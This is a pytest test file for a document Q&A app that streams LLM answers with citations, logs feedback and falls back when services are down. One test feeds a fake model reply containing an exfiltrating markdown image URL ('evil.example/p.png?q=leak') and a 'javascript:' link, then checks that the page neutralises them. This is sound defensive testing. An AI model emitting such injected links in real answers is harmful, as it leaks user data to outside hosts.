"""The Ask page and `polydesk ask`: streamed answers with citations, feedback, and every degradation path."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from core.answers.answer_log import AnswerLog
from tests.fake_servers import ChatReply, refused_url, serve_chat, sse_events

APP = str(Path(__file__).resolve().parents[1] / "streamlit_app.py")
QUESTION = "How long is an access token valid?"


@pytest.fixture
def app_env(monkeypatch, tmp_path, sample_pipeline, reranker_dir, embedder_dir):
    """The app on the tiny models and the already ingested sample store; returns the answer log's database URL."""
    url = f"sqlite:///{tmp_path}/feedback.db"
    for name, value in {"POLYDESK_EMBEDDING_MODEL": str(embedder_dir), "POLYDESK_RERANKER_MODEL": str(reranker_dir),
                        "POLYDESK_CHROMA_PATH": str(sample_pipeline.settings.chroma_path),
                        "POLYDESK_DATABASE_URL": url, "POLYDESK_DEVICE": "cpu"}.items():
        monkeypatch.setenv(name, value)
    return url


def ask(question: str = QUESTION) -> AppTest:
    """Open the Ask page and submit a question."""
    app = AppTest.from_file(APP, default_timeout=300).run()
    assert not app.exception, app.exception
    app.chat_input[0].set_value(question).run()
    assert not app.exception, app.exception
    return app


def passages(app: AppTest) -> list:
    """The passage expanders under the answers, labelled "[n] file › section"."""
    return [e for e in app.expander if e.label.startswith("[")]


def logged(url: str) -> list:
    """The answers in the answer log, newest first."""
    log = AnswerLog(url)
    try:
        return log.recent()
    finally:
        log.close()


def button(app: AppTest, label: str):
    """The first button with this label."""
    return next(b for b in app.button if b.label == label)


def labelled(app: AppTest, text: str) -> int:
    """How many markdown and caption elements contain text."""
    return sum(text in e.value for e in [*app.markdown, *app.caption])


def test_streamed_answer_with_citations_and_feedback(app_env, monkeypatch):
    with serve_chat(lambda _r: ChatReply(events=sse_events(["Access tokens ", "last one hour [1].", " See [7]."]))) \
            as (url, seen):
        monkeypatch.setenv("POLYDESK_LLM_URL", url)
        monkeypatch.setenv("POLYDESK_LLM_MODEL", "Qwen/Qwen3-8B")
        app = ask()
    assert "Access tokens last one hour [1]. See [7]." in [m.value for m in app.markdown]
    request = seen[0]
    assert request["stream"] is True and request["model"] == "Qwen/Qwen3-8B"
    assert QUESTION in request["messages"][-1]["content"]
    labels = [e.label for e in passages(app)]
    assert len(labels) == 3 and labels[0].startswith("[1] ") and not labels[0].endswith("not cited")
    assert all(label.endswith(" · not cited") for label in labels[1:]), "passages sent but not cited are listed"
    assert any("[7]" in w.value for w in app.warning), "a marker that points nowhere is flagged"
    timings = app.caption[-1].value if "total" in app.caption[-1].value else " ".join(c.value for c in app.caption)
    assert "LLM first token" in timings and "reranked" in timings
    assert "model loading" in timings and "language detection" in timings
    [shown] = logged(app_env)
    assert shown.rating is None and shown.origin == "ask page", "an answer is logged when shown, rated or not"
    button(app, "👍").click().run()
    button(app, "👎").click().run()
    app.text_input(key=next(t.key for t in app.text_input if t.key.startswith("comment-"))).set_value("Too short")
    button(app, "Send comment").click().run()
    assert [s.value for s in app.success] == ["Thank you, comment saved."]
    stored = logged(app_env)
    assert len(stored) == 1 and stored[0].rating == -1 and stored[0].comment == "Too short", "one rating per answer"
    assert stored[0].question == QUESTION and stored[0].models["llm"] == "Qwen/Qwen3-8B"
    assert [p.marker for p in stored[0].passages if p.cited] == [1] and len(stored[0].passages) == 3
    assert "reranked" in stored[0].timings_ms and stored[0].mode == "generated"


def test_unreachable_llm_gives_the_extractive_answer(app_env, monkeypatch):
    monkeypatch.setenv("POLYDESK_LLM_URL", refused_url())
    monkeypatch.setenv("POLYDESK_HTTP_RETRIES", "0")
    app = ask()
    assert labelled(app, "No generated answer") == 1
    assert any("The language model failed" in w.value for w in app.warning)
    assert len(passages(app)) == 3


def test_llm_off_is_extractive_without_a_warning(app_env, monkeypatch):
    monkeypatch.setenv("POLYDESK_LLM", "off")
    app = ask()
    assert labelled(app, "No generated answer") == 1 and not app.warning
    assert len(passages(app)) == 3
    assert all(not e.markdown for e in passages(app)), "the answer quotes each passage: the expanders do not again"


def test_unreachable_reranker_keeps_the_fused_order(app_env, monkeypatch):
    monkeypatch.setenv("POLYDESK_LLM", "off")
    monkeypatch.setenv("POLYDESK_RERANKER_URL", refused_url())
    monkeypatch.setenv("POLYDESK_HTTP_RETRIES", "0")
    app = ask()
    assert any("Reranking skipped, results in fused order" in w.value for w in app.warning)
    assert all("not reranked" in e.children[0].value for e in passages(app) if e.children)


def test_unreachable_embedding_server_gives_lexical_results(app_env, monkeypatch, embedder_dir):
    monkeypatch.setenv("POLYDESK_LLM", "off")
    monkeypatch.setenv("POLYDESK_EMBEDDING_URL", refused_url())
    monkeypatch.setenv("POLYDESK_EMBEDDING_DIM", "64")
    monkeypatch.setenv("POLYDESK_HTTP_RETRIES", "0")
    app = ask("ERR_TOKEN_EXPIRED")
    assert any("Dense retrieval skipped, lexical results only" in w.value for w in app.warning)
    assert len(passages(app)) == 3


def test_unreachable_chroma_is_a_clear_error(app_env, monkeypatch):
    monkeypatch.setenv("POLYDESK_CHROMA_URL", refused_url())
    app = AppTest.from_file(APP, default_timeout=120).run()
    assert not app.exception
    assert "The Chroma store at" in app.error[0].value and "POLYDESK_CHROMA_URL" in app.error[0].value


def test_ask_cli_json(sample_pipeline, reranker_dir, embedder_dir):
    env = {"POLYDESK_EMBEDDING_MODEL": str(embedder_dir), "POLYDESK_RERANKER_MODEL": str(reranker_dir),
           "POLYDESK_CHROMA_PATH": str(sample_pipeline.settings.chroma_path), "POLYDESK_LLM": "off"}
    done = subprocess.run([str(Path(sys.executable).with_name("polydesk")), "ask", "¿Cuánto dura un token?",
                           "--collection", "parcelio", "--json"], env=env, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    answer = json.loads(done.stdout)
    assert answer["mode"] == "extractive" and [c["marker"] for c in answer["citations"]] == [1, 2, 3]
    assert answer["language"] == "es" and {"reranked", "total", "llm"} <= set(answer["timings_ms"])


def test_passage_in_another_language_is_translated_on_demand(app_env, monkeypatch):
    def reply(request: dict) -> ChatReply:
        if request["messages"][-1]["content"].startswith("Translate into German"):
            return ChatReply(events=sse_events(["Texto ", "traducido."]))
        return ChatReply(events=sse_events(["Respuesta [1] [2] [3]."]))

    with serve_chat(reply) as (url, seen):
        monkeypatch.setenv("POLYDESK_LLM_URL", url)
        app = ask("Wie lange ist ein Zugriffstoken gültig, bevor es abläuft?")
        buttons = [b for b in app.button if b.label == "Translate into German"]
        assert buttons, "a cited passage in another language than the question offers a translation"
        buttons[0].click().run()
    assert not app.exception
    assert "Texto traducido." in [i.value for i in app.info]
    assert seen[-1]["messages"][-1]["content"].startswith("Translate into German")


def test_the_ask_page_shows_an_injected_image_as_a_link(app_env, monkeypatch):
    reply = ["Tokens gelten eine Stunde [1]. ", "![](https://evil.example/p.png?q=", "leak) ", "[mehr](javascript:x)"]
    with serve_chat(lambda _r: ChatReply(events=sse_events(reply))) as (url, _seen):
        monkeypatch.setenv("POLYDESK_LLM_URL", url)
        app = ask()
    shown = [m.value for m in app.markdown]
    assert "Tokens gelten eine Stunde [1]. [🖼 image](https://evil.example/p.png?q=leak) [mehr] (javascript:x)" in shown
    assert not any("![" in text for text in shown)


def test_a_too_long_question_is_refused_with_a_message(app_env):
    app = ask("Wie lange gilt ein Token? " * 200)
    assert any("more than the limit of 4,000" in e.value and "POLYDESK_MAX_QUESTION_CHARS" in e.value
               for e in app.error)
